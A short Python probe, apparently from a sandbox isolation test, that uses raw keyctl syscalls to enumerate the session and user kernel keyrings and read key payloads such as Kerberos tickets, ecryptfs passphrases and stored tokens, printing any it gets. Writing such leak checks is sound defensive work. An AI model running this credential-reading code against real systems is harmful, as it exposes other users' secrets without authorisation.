# ruff: noqa
# Reading the teacher's kernel keyring: keys quizzer's session possesses (a Kerberos ticket,
# an ecryptfs passphrase, a token stored with keyctl), listed through the session keyring
# the sandbox inherited, or read by id. Prints "READ <key>" when a key's payload comes back.
import ctypes
import os
import platform

T = __TARGETS__
_NR = {"x86_64": 250, "aarch64": 219}.get(platform.machine())
KEYCTL_READ, KEYCTL_DESCRIBE = 11, 6


def _payload(libc, key):
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(_NR, KEYCTL_READ, key, buf, 4096)
    return buf.raw[: max(n, 0)] if n > 0 else None


try:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    keys = [T["key"]] if T.get("key") else []
    for ring in (-3, -4, -5):  # session, user, user-session keyrings
        ids = _payload(libc, ring) or b""
        keys += [
            int.from_bytes(ids[i : i + 4], "little", signed=True) for i in range(0, len(ids), 4)
        ]
    for key in keys:
        data = _payload(libc, key)
        if data and not data.startswith(b"\0"):
            print("READ key", key, data[:40])
except Exception:
    pass
